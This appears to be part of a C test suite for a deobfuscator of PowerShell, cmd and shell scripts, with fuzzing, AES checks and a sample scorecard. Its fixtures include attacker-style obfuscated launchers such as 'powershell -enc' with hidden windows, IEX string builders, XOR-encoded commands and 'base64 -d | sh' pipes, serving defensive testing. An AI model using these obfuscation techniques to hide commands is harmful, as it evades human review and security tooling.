    sp_deob_result_fini(&r);
    sp_deob_result_fini(&r);
    sp_deob_result_fini(NULL);
    /* invalid UTF-8 and NULs come out as U+FFFD */
    static const char junk[] = "a\xff\x00z\xc3";
    T_EQ_INT(sp_deob_run(junk, sizeof(junk) - 1, NULL, &r), SP_OK);
    T_EQ_STR(r.layers[0].text, "a\xef\xbf\xbd\xef\xbf\xbdz\xef\xbf\xbd");
    sp_deob_result_fini(&r);
    T_OK(sp_deob_technique_description("cmd.caret") != NULL);
    T_OK(sp_deob_technique_description("no.such") == NULL);
}

/* ---- AES known answers -------------------------------------------------- */

static void hex(const char *h, unsigned char *out)
{
    for (size_t i = 0; h[2 * i]; i++)
        out[i] = (unsigned char)(deob_hexval(h[2 * i]) * 16 +
                                 deob_hexval(h[2 * i + 1]));
}

static void test_aes(void)
{
    /* FIPS-197 C.1-C.3 as one-block CBC with a zero IV; the plaintext is
     * followed by a block of PKCS#7 padding encrypted under the same key
     * (precomputed). */
    static const struct {
        const char *key, *ct;
    } kat[] = {
        {"000102030405060708090a0b0c0d0e0f",
         "69c4e0d86a7b0430d8cdb78070b4c55a"},
        {"000102030405060708090a0b0c0d0e0f1011121314151617",
         "dda97ca4864cdfe06eaf70a0ec0d7191"},
        {"000102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f",
         "8ea2b7ca516745bfeafc49904b496089"},
    };
    for (size_t i = 0; i < SP_ARRAY_SIZE(kat); i++) {
        unsigned char key[32], ct[16], iv[16] = {0}, pt[16];
        size_t kl = strlen(kat[i].key) / 2, outlen = 0;
        hex(kat[i].key, key);
        hex(kat[i].ct, ct);
        /* padding check fails on a raw block: decrypt, then compare */
        bool ok = deob_aes_cbc_decrypt(key, kl, iv, ct, 16, pt, &outlen);
        SP_UNUSED(ok);
        unsigned char want[16];
        hex("00112233445566778899aabbccddeeff", want);
        T_OK(memcmp(pt, want, 16) == 0);
    }
    unsigned char key[16] = {0}, iv[16] = {0}, buf[16];
    size_t ol;
    T_OK(!deob_aes_cbc_decrypt(key, 15, iv, buf, 16, buf, &ol));
    T_OK(!deob_aes_cbc_decrypt(key, 16, iv, buf, 15, buf, &ol));
}

/* ---- hostile input ------------------------------------------------------ */

static char *repeat(const char *unit, size_t total)
{
    size_t ul = strlen(unit);
    char *s = malloc(total + 1);
    if (!s)
        return NULL;
    for (size_t i = 0; i < total; i++)
        s[i] = unit[i % ul];
    s[total] = '\0';
    return s;
}

static void test_pathological(void)
{
    static const char *const units[] = {
        "'a'+", "(", "[", "^", "%a%", "$a=$a+$a;", "W`r`i`t`e", "\"", "$",
        "$(", "@{", "{", "%41", "&#65;", "\\u0041", "QUFB", "IEX ", "for ",
        "cmd /c ", "!x!", "set a=%a%%a%&&", "'", "`", "-join", "[char]",
        "powershell -e ", "echo QUFB | base64 -d | ",
    };
    size_t sizes[] = {1 << 10, 1 << 20};
    int64_t worst = 0;
    const char *worst_unit = "";
    for (size_t s = 0; s < SP_ARRAY_SIZE(sizes); s++) {
        for (size_t u = 0; u < SP_ARRAY_SIZE(units); u++) {
            char *in = repeat(units[u], sizes[s]);
            T_OK(in != NULL);
            if (!in)
                return;
            struct sp_deob_result r;
            int64_t t0 = sp_now_us();
            T_EQ_INT(sp_deob_run(in, sizes[s], NULL, &r), SP_OK);
            int64_t dt = sp_now_us() - t0;
            if (dt > worst) {
                worst = dt;
                worst_unit = units[u];
            }
            T_EQ_INT(check_layers(&r), 0);
            /* the 200 ms budget, with slack for sanitizer builds */
            if (dt > 3000000)
                T_FAILF("unit '%s' x %zu took %lld us", units[u], sizes[s],
                        (long long)dt);
            sp_deob_result_fini(&r);
            free(in);
        }
    }
    printf("  pathological inputs up to 1 MiB: slowest %lld us ('%s' "
           "repeated; time budget 200000 us)\n",
           (long long)worst, worst_unit);
}

/* Mutations of the fixtures: byte flips, truncations, splices. */
static void test_mutations(void)
{
    static const char *const seeds[] = {
        "powershell -enc " ENC_B64,
        "IEX (\"{2}{0}{1}\" -f 'Out','put 3','Write-')",
        "cmd /v:on /c \"set s=imaohw&&for /l %i in (5,-1,0) do set "
        "o=!o!!s:~%i,1!&&if %i==0 call %o:~3%\"",
        "FOR /F \"delims=.= tokens=2\" %a IN ('assoc .cmd') DO %a",
        "echo aWQ7IHVuYW1lIC1hCg== | base64 -d | sh",
        "$s = '" SEC16 "' | ConvertTo-SecureString -Key (1..16)",
        "IEX ((125,88,67,94,79,7,101,95) | % { [char]($_ -bxor 0x2a) }) -join ''",
        "&($env:ComSpec[4,15,25]-join'') ('Write-Output'+' 1')",
    };
    static const char alphabet[] = "'\"`$(){}[]|&^%!;,=+-*/\\:.@#<>~ \n\t0aZ";
    uint32_t rng = 12345;
    char buf[4096];
    size_t runs = 0;
    for (size_t round = 0; round < 150; round++) {
        for (size_t k = 0; k < SP_ARRAY_SIZE(seeds); k++) {
            size_t n = strlen(seeds[k]);
            if (n >= sizeof(buf))
                continue;
            memcpy(buf, seeds[k], n);
            int ops = 1 + (int)(rng % 4);
            for (int o = 0; o < ops; o++) {
                rng = rng * 1103515245u + 12345u;
                size_t pos = (rng >> 8) % (n ? n : 1);
                switch ((rng >> 4) % 4) {
                case 0:
                    buf[pos] = alphabet[(rng >> 16) % (sizeof(alphabet) - 1)];
                    break;
                case 1:
                    n = pos;
                    break;
                case 2:
                    buf[pos] = (char)(rng >> 24);
                    break;
                default:
                    if (n + 8 < sizeof(buf)) {
                        memmove(buf + pos + 4, buf + pos, n - pos);
                        memcpy(buf + pos, "$($(", 4);
                        n += 4;
                    }
                }
            }
            struct sp_deob_result r;
            T_EQ_INT(sp_deob_run(buf, n, NULL, &r), SP_OK);
            T_EQ_INT(check_layers(&r), 0);
            sp_deob_result_fini(&r);
            runs++;
        }
    }
    T_OK(runs > 1000);
}

/* ---- scorecard over the shared samples ---------------------------------- */

/* lower case, whitespace removed */
static char *norm(const char *s)
{
    size_t n = strlen(s);
    char *o = malloc(n + 1);
    size_t k = 0;
    if (!o)
        return NULL;
    for (size_t i = 0; i < n; i++) {
        unsigned char c = (unsigned char)s[i];
        if (c == ' ' || c == '\t' || c == '\r' || c == '\n' || c == '\f' ||
            c == '\v')
            continue;
        o[k++] = sp_tolower((char)c);
    }
    o[k] = '\0';
    return o;
}

static bool contains_norm(const char *hay, const char *needle)
{
    char *h = norm(hay), *nd = norm(needle);
    bool ok = h && nd && strstr(h, nd) != NULL;
    free(h);
    free(nd);
    return ok;
}

#define SAMPLES_DIR "../shared/samples/scripts"
/* Floor for the share of fully decoded records (per mille), just under
 * what the engine achieves (99/100 when written). */
#define SCORE_FLOOR_PERMILLE 980

static void test_scorecard(void)
{
    DIR *d = opendir(SAMPLES_DIR);
    if (!d)
        T_SKIP(SAMPLES_DIR " not found (run from the repository root "
                           "next to ../shared)");
    char *names[64];
    size_t nn = 0;
    struct dirent *de;
    while ((de = readdir(d)) && nn < SP_ARRAY_SIZE(names)) {
        size_t l = strlen(de->d_name);
        if (l > 6 && !strcmp(de->d_name + l - 6, ".jsonl"))
            names[nn++] = strdup(de->d_name);
    }
    closedir(d);
    for (size_t i = 0; i + 1 < nn; i++)
        for (size_t j = i + 1; j < nn; j++)
            if (strcmp(names[i], names[j]) > 0) {
                char *t = names[i];
                names[i] = names[j];
                names[j] = t;
            }
    size_t total = 0, good = 0, records = 0, crashes = 0, via_layers = 0;
    int64_t worst = 0, spent = 0;
    for (size_t f = 0; f < nn; f++) {
        char path[512];
        snprintf(path, sizeof(path), "%s/%s", SAMPLES_DIR, names[f]);
        FILE *fp = fopen(path, "r");
        if (!fp)
            continue;
        size_t ft = 0, fg = 0;
        char *line = NULL;
        size_t cap = 0;
        ssize_t len;
        while ((len = getline(&line, &cap, fp)) > 0) {
            json_error_t jerr;
            json_t *rec = json_loadb(line, (size_t)len, 0, &jerr);
            if (!rec)
                continue;
            const char *id = json_string_value(json_object_get(rec, "id"));
            const char *in = json_string_value(json_object_get(rec, "input"));
            json_t *exp = json_object_get(rec, "expected");
            const char *dec = json_string_value(json_object_get(exp, "decoded"));
            json_t *layers = json_object_get(exp, "layers");
            if (!in) {
                json_decref(rec);
                continue;
            }
            struct sp_deob_result r;
            int64_t t0 = sp_now_us();
            if (sp_deob_run(in, strlen(in), NULL, &r) != SP_OK) {
                crashes++;
                json_decref(rec);
                continue;
            }
            int64_t dt = sp_now_us() - t0;
            if (dt > worst)
                worst = dt;
            spent += dt;
            records++;
            if (check_layers(&r))
                crashes++;
            if (dec) {
                const char *fin = final_text(&r);
                /* the record's own last layer is its final plain text when
                 * `decoded` states an intermediate one */
                const char *last = json_is_array(layers) &&
                                           json_array_size(layers)
                                       ? json_string_value(json_array_get(
                                             layers, json_array_size(layers) - 1))
                                       : NULL;
                bool ok = contains_norm(fin, dec);
                if (!ok && last && contains_norm(fin, last)) {
                    ok = true;
                    via_layers++;
                }
                ft++;
                if (ok)
                    fg++;
                else
                    printf("  miss %s: %.120s\n", id ? id : "?", fin);
            }
            sp_deob_result_fini(&r);
            json_decref(rec);
        }
        free(line);
        fclose(fp);
        if (ft)
            printf("  scorecard %-40s %3zu/%3zu fully decoded (%.1f%%)\n",
                   names[f], fg, ft, 100.0 * (double)fg / (double)ft);
        total += ft;
        good += fg;
    }
    for (size_t i = 0; i < nn; i++)
        free(names[i]);
    printf("  scorecard overall %zu/%zu fully decoded (%.1f%%; %zu of them "
           "by the record's own last layer)\n",
           good, total, total ? 100.0 * (double)good / (double)total : 0.0,
           via_layers);
    printf("  all %zu sample records: %.1f us mean, slowest %lld us\n",
           records, records ? (double)spent / (double)records : 0.0,
           (long long)worst);
    T_EQ_INT(crashes, 0);
    T_OK(total > 0);
    if (total)
        T_OK(good * 1000 >= total * SCORE_FLOOR_PERMILLE);
}

/* ---- throughput --------------------------------------------------------- */

static void test_throughput(void)
{
    const char *line =
        "powershell.exe -NoProfile -WindowStyle Hidden -enc " ENC_B64;
    size_t n = strlen(line);
    struct sp_deob_result r;
    for (int i = 0; i < 50; i++) {
        sp_deob_run(line, n, NULL, &r);
        sp_deob_result_fini(&r);
    }
    int iters = 2000;
    int64_t t0 = sp_now_us();
    for (int i = 0; i < iters; i++) {
        sp_deob_run(line, n, NULL, &r);
        sp_deob_result_fini(&r);
    }
    int64_t dt = sp_now_us() - t0;
    double per = (double)dt / iters;
    printf("  throughput: %.1f us per `powershell -enc` line (%.0f lines/s)\n",
           per, per > 0 ? 1e6 / per : 0.0);
    /* generous: sanitizer builds run this too */
    T_OK(per < 5000.0);
}

int main(void)
{
    t_prog = "test_deob";
    T_RUN(test_ps_encoded_command);
    T_RUN(test_ps_base64_compression);
    T_RUN(test_ps_strings);
    T_RUN(test_ps_char_codes);
    T_RUN(test_ps_iex_builders);
    T_RUN(test_ps_securestring);
    T_RUN(test_ps_variables);
    T_RUN(test_ps_launcher);
    T_RUN(test_cmd);
    T_RUN(test_sh);
    T_RUN(test_generic);
    T_RUN(test_no_false_positives);
    T_RUN(test_language);
    T_RUN(test_bounds);
    T_RUN(test_aes);
    T_RUN(test_pathological);
    T_RUN(test_mutations);
    T_RUN(test_scorecard);
    T_RUN(test_throughput);
    printf("  %zu technique fixtures checked\n", fixtures_run);
    return t_done();
}
